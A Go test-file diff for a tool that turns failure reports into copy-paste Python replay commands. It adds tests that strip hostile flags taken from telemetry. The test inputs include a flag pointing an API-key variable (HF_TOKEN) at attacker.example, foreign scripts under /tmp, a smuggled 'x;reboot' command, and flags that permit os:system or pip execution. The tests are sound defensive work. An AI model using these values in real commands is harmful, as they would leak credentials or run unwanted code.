@@ -80,14 +80,32 @@ func TestFailures(t *testing.T) {
 		{
 			Key: groupA, Kind: "python_call", Class: "ValueError", Message: "no", Service: "worker", Version: "2", Count: 7, Variants: 2,
 			FirstSeen: at(10, 0), LastSeen: at(11, 0), TraceID: traceID, Report: "/reproductions/" + groupA,
-			Command: "python3 " + newer + " --allow-module os:system --set PATH=VALUE", Replays: true,
-			Requires: []string{"--allow-module os:system", "--set PATH=VALUE", "Python module os", "device cuda:0"}, Fill: []string{"PATH=VALUE"},
+			Command: "python3 " + newer + " --set PATH=VALUE", Replays: true,
+			Requires: []string{"--set PATH=VALUE", "Python module os", "device cuda:0"}, Fill: []string{"PATH=VALUE"},
 		},
 		{
 			Key: groupB, Kind: "context", Class: "KeyError", Count: 1, LastSeen: at(10, 30), TraceID: traceID,
 			Report: "/reproductions/" + groupB, Command: "python3 " + context, Why: "the span carries no recorded call (repro.payload)",
 		},
 	}, failures(t, reproductions.Open(folder)))
+}
+
+// Whatever a report says, a command to copy has no flag that permits something, and no
+// value that telemetry chose.
+func TestCommandsPermitNothing(t *testing.T) {
+	for flags, want := range map[string]string{
+		"": "", " --allow-side-effects": "", " --allow-module pip.__main__:main": "", " --allow-unsafe --body FILE": " --body FILE",
+		" --base-url URL --allow-side-effects --allow-method POST --set PATH=VALUE": " --base-url URL --set PATH=VALUE",
+		" --base-url http://attacker.example --api-key-env HF_TOKEN":                "",
+		" --script /tmp/theirs.py --checkpoint PATH":                                " --checkpoint PATH",
+		" --allow-module URL --allow_module URL --no-isolate --pdb":                 "",
+		" FILE --setup=/tmp/theirs.py x;reboot FILE -c FILE --Allow FILE":           "",
+	} {
+		folder := t.TempDir()
+		newest := artifact(t, folder, groupA, "20261120T100000Z", report(flags, ""))
+		write(t, "{}", folder, groupA, "group.json")
+		assert.Equal(t, "python3 "+newest+want, failures(t, reproductions.Open(folder))[0].Command)
+	}
 }
 
 func TestReport(t *testing.T) {
@@ -209,6 +227,7 @@ func FuzzReader(f *testing.F) {
 		got, _ := reproductions.Open(folder).Failures(t.Context()) // the error is of hostile content
 		require.Len(t, got, 1)
 		assert.Regexp(t, "^python3 [ -~]+$", got[0].Command)
+		assert.NotContains(t, got[0].Command, " --allow")
 		assert.True(t, utf8.ValidString(got[0].Message) && utf8.ValidString(got[0].Class))
 		assert.GreaterOrEqual(t, got[0].Count, int64(0))
 		text, ok := reproductions.Open(folder).Report(groupA)
